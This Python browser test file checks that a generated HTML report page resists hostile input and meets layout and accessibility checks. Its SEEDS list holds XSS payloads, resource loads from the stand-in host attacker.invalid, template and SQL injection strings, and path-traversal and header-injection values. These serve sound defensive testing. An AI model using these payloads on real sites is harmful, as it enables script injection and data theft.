"""The page in a real browser, with hostile text in every field."""

from __future__ import annotations

from dataclasses import replace
from itertools import pairwise
from typing import Any

import numpy as np
import pytest

from unit.report import summaries
from visavis.records import Document, DocumentMap, GroupSummary, Pick, Scores, SetAside, Summary, Term, Timeline
from visavis.report import facts, write
from web.tabs import open_tab

OUT = "https://attacker.invalid/x"
CALL = "alert(document.domain)"
SEEDS = [
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<ScRiPt src={OUT}></sCrIpT>",
    f"<img src=x onerror={CALL}>",
    f"<img src='{OUT}.png'>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><image href='{OUT}'/></svg>",
    f"<math><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    f"<iframe src='{OUT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data='{OUT}'></object>",
    f"<embed src='{OUT}'>",
    f"<link rel=stylesheet href='{OUT}'>",
    f"<base href='{OUT}/'>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<form action='{OUT}'><input autofocus onfocus={CALL}></form>",
    f"<details open ontoggle={CALL}>",
    f"<video src='{OUT}' autoplay onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<a href='javascript:{CALL}'>x</a>",
    f"<style>@import '{OUT}';</style>",
    f"</style><style>body{{background:url({OUT})}}</style>",
    f"</title><script>{CALL}</script>",
    f"</textarea></template></noscript><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<!--><script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus x='",
    f"` onload=`{CALL}",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f" javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    "file:///etc/passwd",
    f"blob:{OUT}",
    "//attacker.invalid/x",
    "https://user:word@attacker.invalid/",
    "https://attacker.invalid:port/",
    "http://[::1",
    f"{OUT}\" onclick=\"{CALL}",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "${alert(1)}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "\u202egnp.exe\u202c",
    "\u2067\u2067\u2067 isolate without end",
    "\u202a\u202d" * 50,
    "שלום עולם",
    "مرحبا بالعالم",
    "null\x00byte",
    "bell\x07 escape\x1b[31m red",
    "\x9b31m",
    "\ud800 lone surrogate",
    "\ufffe\uffff",
    "Z" + "\u0300\u0301\u0302\u0303" * 60,
    "\u200b\u200c\u200d\u2060",
    "\ufeffmark",
    "line\u2028separator\u2029",
    "\r\n\r\nSet-Cookie: a=b",
    "W" * 3000,
    "漢" * 2000,
    "a-" * 1500,
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "<",
    "\\",
    "\\u003cscript\\u003e",
    "'; DROP TABLE documents; --",
    "=HYPERLINK(\"http://attacker.invalid\")",
    "}</style>",
    "*/ body { display: none } /*",
    f"expression({CALL})",
    f"url({OUT})",
    "![x](https://attacker.invalid/x.png)",
    f"[x](javascript:{CALL})",
    "```\n# heading\n```",
    "../../../../etc/passwd",
    "CON",
    "🏳️‍🌈👩‍👩‍👧‍👦" * 40,
    "",
    " ",
    "\n\n\n",
    "__proto__",
    "constructor",
    "toString",
    "NaN",
    "%s%n%x",
    "%00%0a",
    "＜script＞",
    "<b>bold",
]  # fmt: skip
HOSTILE = (SEEDS + [f"{one}{other}" for one, other in zip(SEEDS, reversed(SEEDS), strict=True)])[:200]


def hostile_documents() -> list[Document]:
    """Every hostile string in every field of some document."""
    return [
        Document(id=text + "\n" * (row // 7) + str(row), title=text, text=text * 2, source=text, url=text, image=text)
        for row, text in enumerate(HOSTILE)
    ]


def hostile() -> Summary:
    """Every hostile string in every field of some document, ten groups of twenty."""
    documents = hostile_documents()
    names = tuple(f"{HOSTILE[20 * index]}{HOSTILE[20 * index + 3]} {index}" for index in range(10))
    groups = []
    for index, name in enumerate(names):
        members = documents[20 * index : 20 * index + 20]
        scores = Scores(0.4, -0.01, 0.5, dict.fromkeys(names, 0.1))
        picks = tuple(
            Pick(document, rank, scores, 0.1, 0.1, 0.1, 0.5, (document.title, "x"), tuple(d.id for d in members))
            for rank, document in enumerate(members, 1)
        )
        terms = tuple(Term(text, 5, 0.25, 1, 0.01, 3, telling=True) for text in HOSTILE[index::10])
        groups.append(GroupSummary(name, 20, picks, 0.1, dict.fromkeys(HOSTILE[:3], 0.1), terms))
    texts = tuple(HOSTILE)
    points = np.random.default_rng(0).normal(size=(len(documents), 2))
    return Summary(
        title="".join(HOSTILE[:60]),
        by=HOSTILE[0],
        groups=tuple(groups),
        test=(replace(summaries.news().test[0], groups=names), replace(summaries.news().test[1], groups=names[:1])),
        accuracy=0.5,
        ceiling=0.6,
        common=tuple(documents[:100]),
        set_aside=tuple(SetAside(text, texts) for text in texts[:20]),
        folded=3,
        warnings=texts,
        notes=texts,
        method=HOSTILE[1],
        parameters=dict(zip(texts[:50], texts[50:100], strict=True)),
        seed=0,
        version=HOSTILE[0],
        command="".join(texts[:60]),
        timeline=Timeline(HOSTILE[0], texts[:12], tuple((1,) * 10 for _ in range(12))),
        map=DocumentMap(points, np.repeat(np.arange(10), 20), tuple(d.id for d in documents), texts),
    )


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    folder = tmp_path_factory.mktemp("pages")
    made = {"hostile": hostile(), "news": summaries.news(), "same": summaries.outlets(), "many": summaries.large(600)}
    for name, summary in made.items():
        write(summary, folder / f"{name}.html")
    return {name: (folder / f"{name}.html").as_uri() for name in made}


def visit(browser: Any, address: str, **options: Any) -> tuple[Any, dict[str, list[str]]]:
    """The page once it stands, and everything it did that it should not do."""
    page = open_tab(browser, **options)
    seen: dict[str, list[str]] = {"dialogs": [], "requests": [], "errors": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: seen["requests"].append(request.url))
    page.on("console", lambda message: seen["errors"].append(message.text))
    page.on("pageerror", lambda error: seen["errors"].append(str(error)))
    page.goto(address)
    return page, seen


def outside(requests: list[str], address: str) -> list[str]:
    return [url for url in requests if url.partition("#")[0] != address and not url.startswith("data:")]


def fits(page: Any) -> bool:
    return bool(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))


def test_there_are_two_hundred_hostile_strings() -> None:
    assert len(HOSTILE) == 200
    assert len(set(HOSTILE)) > 190


def test_hostile_text_runs_nothing_and_reaches_no_one(browser: Any, pages: dict[str, str]) -> None:
    page, seen = visit(browser, pages["hostile"], viewport={"width": 1280, "height": 900})
    page.evaluate("document.querySelectorAll('details').forEach((part) => { part.open = true; })")
    page.mouse.move(300, 300)
    for label in page.locator(".map .label").all()[:20]:
        label.dispatch_event("pointermove")
    page.locator(".words a").first.click()
    page.locator(".card .copy").first.click()
    page.wait_for_timeout(300)
    assert seen["dialogs"] == []
    assert outside(seen["requests"], pages["hostile"]) == []
    assert seen["errors"] == []
    page.close()


def test_hostile_text_adds_no_element_and_no_attribute(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["hostile"])
    assert page.locator("script").count() == 2
    assert page.locator("style").count() == 1
    assert page.locator("iframe, object, embed, form, input, base, video, math, textarea, template").count() == 0
    assert page.locator("img").count() == 1
    found = page.evaluate(
        "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name))"
        ".filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc')"
    )
    assert found == ["style"] * len(found)  # the script places its note by style; nothing else may
    links = page.evaluate("[...document.links].map((link) => link.getAttribute('href'))")
    assert all(link.startswith(("#", "https://", "http://")) for link in links)
    assert page.evaluate("document.querySelectorAll('.card').length") == 200
    page.close()


@pytest.mark.parametrize("name", ["hostile", "news", "same", "many"])
@pytest.mark.parametrize("width", [360, 800, 1600])
def test_nothing_is_wider_than_the_window(browser: Any, pages: dict[str, str], name: str, width: int) -> None:
    page, seen = visit(browser, pages[name], viewport={"width": width, "height": 800})
    assert fits(page)
    page.evaluate("document.querySelectorAll('details').forEach((part) => { part.open = true; })")
    assert fits(page)
    assert seen["errors"] == []
    page.close()


@pytest.mark.parametrize(("width", "shown"), [(360, 0), (1200, 16)])
def test_labels_stand_on_the_map_only_where_there_is_room(
    browser: Any, pages: dict[str, str], width: int, shown: int
) -> None:
    page, _ = visit(browser, pages["news"], viewport={"width": width, "height": 800})
    assert page.locator(".map .label:visible").count() == shown
    assert page.locator(".wide:visible").count() == (shown > 0)
    assert page.locator(".narrow:visible").count() == (shown == 0)
    page.close()


def test_the_page_reads_in_full_without_scripts(browser: Any, pages: dict[str, str]) -> None:
    page, seen = visit(browser, pages["news"], java_script_enabled=False)
    text = page.locator("main").inner_text()
    for group in summaries.news().groups:
        assert facts.group_name(group) in text
        for pick in group.picks:
            assert pick.document.title in text
    assert "The groups differ" in text
    assert page.locator("button:visible").count() == 0
    page.locator(".card details summary").first.click()
    assert page.locator(".card details").first.get_attribute("open") is not None
    assert seen["errors"] == []
    page.close()


def test_a_copied_pick_is_markdown_with_outlet_date_and_link(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["news"], permissions=("clipboard-read", "clipboard-write"))
    document = summaries.news().groups[0].picks[0].document
    page.locator("#pick-A1 .copy").click()
    page.locator("#pick-A1 .copy", has_text="Copied").wait_for()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith(f"[{document.title}](<{document.url}>)")
    assert document.source in copied
    assert f"{document.date.day} " in copied
    page.locator("[data-copy=all]").click()
    page.locator("[data-copy=all]", has_text="Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()").startswith("# Climate coverage")
    page.close()


def test_copying_falls_back_where_the_clipboard_is_closed(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["news"], permissions=("clipboard-read", "clipboard-write"))
    page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('closed')); }")
    page.locator("#pick-B1 .copy").click()
    page.locator("#pick-B1 .copy", has_text="Copied").wait_for()
    assert summaries.news().groups[1].picks[0].document.url in page.evaluate("navigator.clipboard.readText()")
    page.close()


def test_marks_of_words_can_be_hidden(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["news"])
    page.locator("#marks").click()
    assert page.locator("html.unmarked").count() == 1
    page.close()


def test_a_word_leads_to_the_documents_that_hold_it_without_the_script(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["news"], java_script_enabled=False)
    holders = page.locator("#word-B-1")
    assert not holders.is_visible()
    page.locator(".column .words a[href='#word-B-1']").click()
    assert holders.is_visible()
    page.close()


def test_phrases_stay_in_one_piece(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["many"], viewport={"width": 360, "height": 800})
    pieces = page.evaluate(
        "[...document.querySelectorAll('.differences .word, .words a bdi')].map((e) => e.getClientRects().length)"
    )
    assert pieces
    assert set(pieces) == {1}
    page.close()


@pytest.mark.parametrize("name", ["news", "same", "many"])
def test_the_first_picks_stand_above_the_fold(browser: Any, pages: dict[str, str], name: str) -> None:
    page, _ = visit(browser, pages[name], viewport={"width": 1280, "height": 900})
    tops = page.evaluate("[...document.querySelectorAll('.card h4')].map((e) => e.getBoundingClientRect().bottom)")
    assert min(tops) < 900
    page.close()


def test_the_map_names_the_document_under_the_pointer(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["news"], viewport={"width": 1280, "height": 900})
    area = page.locator("#map-area")
    area.scroll_into_view_if_needed()
    place = page.evaluate(
        "(() => { const map = JSON.parse(document.getElementById('data').textContent).map;"
        "const i = map.y.indexOf(Math.max(...map.y));"
        "return {x: map.x[i] / map.width, y: map.y[i] / map.width, title: map.t[i]}; })()"
    )
    box = area.bounding_box()
    page.mouse.move(box["x"] + place["x"] * box["width"], box["y"] + place["y"] * box["width"])
    assert place["title"] in page.locator("#tip").inner_text()
    page.close()


def test_headings_descend_one_step_at_a_time_and_ids_are_unique(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["news"])
    levels = page.evaluate("[...document.querySelectorAll('h1,h2,h3,h4')].map((h) => Number(h.tagName[1]))")
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map((e) => e.id)")
    assert len(ids) == len(set(ids))
    assert page.locator("html[lang=en]").count() == 1
    assert page.locator("main").count() == page.locator("h1").count() == 1
    page.close()


def test_the_first_tab_stop_skips_to_the_comparison(browser: Any, pages: dict[str, str]) -> None:
    page, _ = visit(browser, pages["news"])
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page.close()


CONTRAST = """
(() => {
  const parse = (c) => { const p = c.match(/[\\d.]+/g).map(Number); return p.length < 4 ? [...p, 1] : p; };
  const lum = (c) => { const f = (v) => { v /= 255; return v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; };
    return 0.2126 * f(c[0]) + 0.7152 * f(c[1]) + 0.0722 * f(c[2]); };
  const ground = (e) => { for (; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor);
    if (c[3] === 1) return c; } return [255, 255, 255, 1]; };
  const low = [];
  for (const e of document.querySelectorAll("body *")) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
    if (!own || e.closest("svg, script, mark, .skip, .unseen, [hidden]")) continue;
    const [a, b] = [lum(parse(getComputedStyle(e).color)), lum(ground(e))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) low.push(`${e.tagName}.${e.className} ${ratio.toFixed(2)}`);
  }
  return low;
})()
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", ["news", "same", "many"])
def test_text_stands_out_from_its_ground(browser: Any, pages: dict[str, str], name: str, scheme: str) -> None:
    page, _ = visit(browser, pages[name], color_scheme=scheme)
    assert page.evaluate(CONTRAST) == []
    page.close()
